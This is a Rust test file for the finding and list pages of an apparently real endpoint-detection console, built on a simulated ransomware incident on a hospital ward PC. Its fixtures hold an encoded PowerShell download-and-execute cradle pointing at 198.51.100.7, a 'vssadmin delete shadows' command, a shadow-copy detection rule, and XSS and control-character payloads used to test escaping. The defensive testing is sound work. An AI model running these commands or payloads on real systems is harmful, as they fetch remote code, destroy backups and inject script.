//! Pages rendered with sample data, among it text that an attacker chose.

use askama::Template;
use wardline_event::{
    ActionTaken, Body, BootId, DeviceId, Disposition, Event, EventId, Finding, MatchedField, NetworkActivity,
    NetworkOp, Process, ProcessActivity, ProcessKey, ProcessOp, RuleRef, Severity, Technique, Timestamp,
    User,
};
use wardline_kernel::page::{ActionRow, Ago, Frame, Section, Tag, Theme};
use wardline_kernel::views::{DeviceSummary, FindingSummary, Presence};

use super::list::{Filter, ListPage};
use super::page::{FindingPage, Handling, Parts};
use super::tree::Tree;
use crate::domain::grow_tree;

const NOW: Timestamp = Timestamp(1_795_450_800_000);

fn process(pid: u32, ticks: u64, image: &str, command_line: &str, user: &str) -> Process {
    Process {
        key: ProcessKey { boot: BootId(7), start_ticks: ticks, pid },
        image: image.into(),
        command_line: command_line.into(),
        cwd: "C:\\Users\\j.bloggs\\Documents".into(),
        user: User { uid: "S-1-5-21-1".into(), name: user.into() },
        started: Timestamp(NOW.0 - 200_000 + i64::try_from(ticks).unwrap_or(0) * 10),
        ..Process::default()
    }
}

fn launched(process: &Process, parent: &Process) -> Event {
    Event {
        id: EventId(u128::from(process.key.pid)),
        time: process.started,
        product: "windows".into(),
        simulated: true,
        body: Body::Process(ProcessActivity {
            op: ProcessOp::Exec,
            process: process.clone(),
            parent: Some(parent.clone()),
            exit_code: None,
            launch: None,
        }),
    }
}

fn story() -> (Finding, Vec<Event>) {
    let user = "TRUST\\j.bloggs";
    let explorer = process(2210, 100, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", user);
    let word = process(
        4312,
        9_000,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\j.bloggs\\Downloads\\Rota change urgent.docm\"",
        user,
    );
    let shell = process(
        5120,
        9_400,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=",
        user,
    );
    let whoami = process(5188, 9_800, "C:\\Windows\\System32\\whoami.exe", "whoami /all", user);
    let admin = process(
        5304,
        15_000,
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        user,
    );
    let child =
        process(5310, 15_004, "C:\\Windows\\System32\\conhost.exe", "conhost.exe 0xffffffff -ForceV1", user);
    let event = launched(&admin, &shell);
    let net = Event {
        id: EventId(99),
        time: Timestamp(shell.started.0 + 900),
        product: "windows".into(),
        simulated: true,
        body: Body::Network(NetworkActivity {
            op: NetworkOp::Open,
            actor: shell.clone(),
            protocol: "tcp".into(),
            initiated: true,
            src_ip: "10.20.4.31".into(),
            src_port: 50_112,
            dst_ip: "198.51.100.7".into(),
            dst_port: 443,
            dst_host: String::new(),
        }),
    };
    let events = vec![
        launched(&word, &explorer),
        launched(&shell, &word),
        net,
        launched(&whoami, &shell),
        event.clone(),
        launched(&child, &admin),
    ];
    let finding = Finding {
        id: EventId(0xabcd_0123),
        time: event.time,
        simulated: true,
        severity: Severity::Critical,
        rule: RuleRef {
            id: "5d7c1a52-7c5e-4d0c-9a3f-0c2d5b1e7a11".into(),
            title: "Shadow copies deleted".into(),
            description: "Ransomware deletes Windows' own backup copies just before it encrypts, so that nobody can go back. People almost never do this by hand on a ward PC.".into(),
            source: "title: Shadow copies deleted\nid: 5d7c1a52-7c5e-4d0c-9a3f-0c2d5b1e7a11\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection_tool:\n    Image|endswith: '\\vssadmin.exe'\n  selection_words:\n    CommandLine|contains|all:\n      - delete\n      - shadows\n  condition: all of selection_*\nlevel: critical\ntags:\n  - attack.t1490\n".into(),
        },
        techniques: vec![Technique("T1490".into()), Technique("T1059.001".into())],
        matched: vec![
            MatchedField {
                selection: "selection_tool".into(),
                field: "Image".into(),
                pattern: "endswith '\\vssadmin.exe'".into(),
                value: "C:\\Windows\\System32\\vssadmin.exe".into(),
            },
            MatchedField {
                selection: "selection_words".into(),
                field: "CommandLine".into(),
                pattern: "contains 'delete' and 'shadows'".into(),
                value: "vssadmin.exe delete shadows /all /quiet".into(),
            },
        ],
        event,
        ancestors: vec![shell, word, explorer],
        action: ActionTaken {
            disposition: Disposition::Stopped,
            action: "kill process tree".into(),
            by: "rule Shadow copies deleted".into(),
            detail: "killed 2 processes: vssadmin.exe (5304), conhost.exe (5310)".into(),
            decided_after_us: 820,
            done_after_us: Some(4_130),
        },
    };
    (finding, events)
}

fn device(name: &str, role: &str) -> DeviceSummary {
    DeviceSummary {
        id: DeviceId(5).to_string(),
        organisation: "o1".into(),
        organisation_name: "Northfield Hospitals".into(),
        hostname: name.into(),
        os: "Windows 11 Enterprise".into(),
        role: role.into(),
        class: "workstation".into(),
        site: "Northfield General".into(),
        ward: "Ward 7".into(),
        device_type: "ward PC".into(),
        simulated: true,
        presence: Presence::Live,
        last_seen_ms: Some(NOW.0 - 3_000),
        mode: "protect".into(),
        mode_in_force: Some("protect".into()),
        isolated_until_ms: None,
        lost: Some(0),
    }
}

fn summary(
    finding: &Finding,
    id: u128,
    title: &str,
    severity: &str,
    disposition: &str,
    ms: i64,
) -> FindingSummary {
    FindingSummary {
        id: EventId(id).to_string(),
        device: DeviceId(5).to_string(),
        hostname: "WARD7-PC3".into(),
        role: "ward PC".into(),
        time_ms: NOW.0 - ms,
        severity: severity.into(),
        rule_id: finding.rule.id.clone(),
        rule_title: title.into(),
        techniques: "T1490".into(),
        process_key: finding.event.process().key.to_string(),
        image: finding.event.process().image.clone(),
        command_line: finding.event.process().command_line.clone(),
        disposition: disposition.into(),
        state: if id.is_multiple_of(3) { "acknowledged" } else { "new" }.into(),
        simulated: id.is_multiple_of(2),
    }
}

fn framed(title: &str, body: &impl Template) -> String {
    let frame = Frame {
        title,
        section: Section::Findings,
        person: Some("administrator"),
        organisation: "Northfield Hospitals",
        theme: Theme::System,
        here: "/findings",
        notice: None,
    };
    let html = frame.render(body).unwrap();
    // For a look without a hub: `WARDLINE_PAGES=DIR cargo test` writes each page there.
    if let Some(folder) = std::env::var_os("WARDLINE_PAGES") {
        std::fs::write(std::path::Path::new(&folder).join(format!("{title}.html")), &html).unwrap();
    }
    html
}

fn page(name: &str, finding: &Finding, events: &[Event], device: &DeviceSummary) -> String {
    let action = ActionRow {
        id: "a1".into(),
        what: "Isolate for 1 hour".into(),
        device: device.id.clone(),
        hostname: device.hostname.clone(),
        reason: "Stop the spread while we look".into(),
        by: "administrator".into(),
        state: Tag::action_state(wardline_event::ActionState::Pending),
        detail: String::new(),
        when: Ago { at: Timestamp(NOW.0 - 20_000), now: NOW },
        may_cancel: true,
        simulated: true,
        approved_by: String::new(),
        rests_on: None,
        may_undo: false,
    };
    let body = FindingPage::of(Parts {
        finding,
        device_id: &device.id,
        device: Some(device),
        tree: &grow_tree(finding, events),
        events: &events[2..],
        handling: Handling { state: "new".into(), ..Handling::default() },
        actions: vec![action],
        received: Some(Timestamp(finding.time.0 + 40)),
        evidence: "{\n  \"class_uid\": 2004\n}".into(),
        now: NOW,
    });
    framed(name, &body)
}

#[test]
fn a_finding_is_told_from_its_first_line_to_its_evidence() {
    let (finding, events) = story();
    let html = page("finding", &finding, &events, &device("WARD7-PC3", "ward PC"));
    for part in [
        "WARD7-PC3</a> (ward PC), powershell.exe started vssadmin.exe as user TRUST\\j.bloggs.",
        "Wardline killed it and everything it started, 4.1 ms after it began.",
        "Simulated",
        "Critical",
        "T1059.001",
        "vssadmin.exe delete shadows /all /quiet",
        "endswith &#39;\\vssadmin.exe&#39;",
        "condition: all of selection_*",
        "Everything except this hub.</strong> Clinical flows are cut too".to_lowercase().as_str(),
        "powershell.exe connected to",
        "198.51.100.7:443 (tcp)",
        "evidence.json",
    ] {
        assert!(html.to_lowercase().contains(&part.to_lowercase()), "the page lacks: {part}");
    }
    // The tree: explorer › word › powershell › (whoami, vssadmin › conhost).
    let tree = Tree::of(&finding, &grow_tree(&finding, &events));
    let shell = &tree.roots[0].children[0].children[0];
    let names: Vec<_> = shell.children.iter().map(|b| (b.name.as_str(), b.hit, b.killed)).collect();
    assert_eq!(names, [("vssadmin.exe", true, true)], "whoami is a sibling and not on the finding's line");
    assert_eq!(shell.children[0].children[0].name, "conhost.exe");
    assert!(shell.children[0].children[0].killed && !shell.killed);
}

#[test]
fn each_outcome_has_its_own_plain_sentence() {
    let (mut finding, events) = story();
    let device = device("WARD7-PC3", "ward PC");
    for (disposition, sentence) in [
        (Disposition::WouldAct, "this device only monitors"),
        (Disposition::Withheld, "a safety rule held Wardline back"),
        (Disposition::Failed, "It may still be running"),
        (Disposition::Recorded, "does not stop anything by itself"),
    ] {
        finding.action.disposition = disposition;
        let html = page("finding-other", &finding, &events, &device);
        assert!(html.contains(sentence), "{disposition:?}");
        assert!(html.contains("Kill the process"), "{disposition:?}: what runs on can be killed by hand");
    }
}

#[test]
fn hostile_text_stays_text() {
    let (mut finding, mut events) = story();
    let evil = format!(
        "<script>alert(1)</script>\u{202e}gpj\u{0}\u{1b}[2J'\"><img src=x onerror=y>{}",
        "A".repeat(10_240)
    );
    let Body::Process(activity) = &mut finding.event.body else { unreachable!() };
    activity.process.image = evil.clone();
    activity.process.command_line = evil.clone();
    activity.process.user.name = evil.clone();
    activity.process.container = Some(evil.clone());
    finding.rule.title = evil.clone();
    finding.rule.description = evil.clone();
    finding.rule.source = evil.clone();
    finding.matched[0] = MatchedField {
        selection: evil.clone(),
        field: evil.clone(),
        pattern: evil.clone(),
        value: evil.clone(),
    };
    finding.techniques.push(Technique(evil.clone()));
    finding.action.by = evil.clone();
    finding.action.detail = evil.clone();
    events.push(finding.event.clone());
    let mut row = summary(&finding, 3, &evil, &evil, &evil, 1_000);
    (row.hostname, row.image, row.command_line) = (evil.clone(), evil.clone(), evil.clone());
    let (name, role) = (evil.clone(), evil.clone());
    let list = ListPage::of(&[row], &[device(&name, &role)], Filter::default(), None, NOW);
    for html in [page("finding-hostile", &finding, &events, &device(&name, &role)), framed("hostile", &list)]
    {
        assert!(!html.contains("<script>alert") && !html.contains("<img"), "markup got through");
        assert!(!html.contains(['\u{202e}', '\u{0}', '\u{1b}']), "a deceiving character got through");
        assert!(html.contains("\\u{202e}gpj\\u{0}\\u{1b}[2J"));
        assert!(html.len() < 400_000, "ten kilobytes of a name made a page of {}", html.len());
    }
}

#[test]
fn a_fork_bomb_makes_a_page_of_bearable_size() {
    let (finding, mut events) = story();
    let mut parent = finding.event.process().clone();
    for pid in 10_000..13_000 {
        let child = process(pid, u64::from(pid), "/bin/sh", "sh -c :", "root");
        events.push(launched(&child, &parent));
        if pid.is_multiple_of(2) {
            parent = child;
        }
    }
    let tree = Tree::of(&finding, &grow_tree(&finding, &events));
    assert!(tree.left_out > 1_000);
    assert!(page("finding-bomb", &finding, &events, &device("a", "b")).len() < 1_000_000);
}

#[test]
fn the_list_shows_what_happened_and_explains_itself_when_empty() {
    let (finding, _) = story();
    let rows = [
        ("Shadow copies deleted", "critical", "stopped", 4_000),
        ("Reverse shell from a web server", "high", "stopped", 65_000),
        ("PowerShell started by an Office document", "high", "would_act", 140_000),
        ("Passwords read from the memory of lsass", "critical", "withheld", 200_000),
        ("Scheduled task created from a temporary folder", "medium", "recorded", 4_000_000),
        ("Account and group discovery", "low", "recorded", 8_000_000),
        ("Service created from another machine", "high", "failed", 90_000_000),
        ("Cron job created", "informational", "recorded", 180_000_000),
    ];
    let findings: Vec<_> = rows
        .iter()
        .enumerate()
        .map(|(i, (title, severity, done, ms))| summary(&finding, i as u128 + 1, title, severity, done, *ms))
        .collect();
    let devices = [device("WARD7-PC3", "ward PC")];
    let filled =
        framed("findings", &ListPage::of(&findings, &devices, Filter::default(), Some("1-a".into()), NOW));
    for word in [
        "Critical",
        "Killed",
        "Would have killed",
        "Withheld",
        "a person must decide",
        "Recorded",
        "ward PC",
        "data-live-rows",
    ] {
        assert!(filled.contains(word), "the list lacks {word}");
    }
    let empty = framed("findings-empty", &ListPage::of(&[], &[], Filter::default(), None, NOW));
    assert!(empty.contains("wardline drill") && empty.contains("wardline demo"));
    let filter = Filter { severity: "high".into(), device: "\"><script>".into(), ..Filter::default() };
    assert_eq!(filter.address(Some("5-ab")), "/findings?severity=high&after=5-ab");
    let none = framed("findings-none", &ListPage::of(&[], &devices, filter, None, NOW));
    assert!(none.contains("No finding fits these filters") && !none.contains("\"><script>"));
}
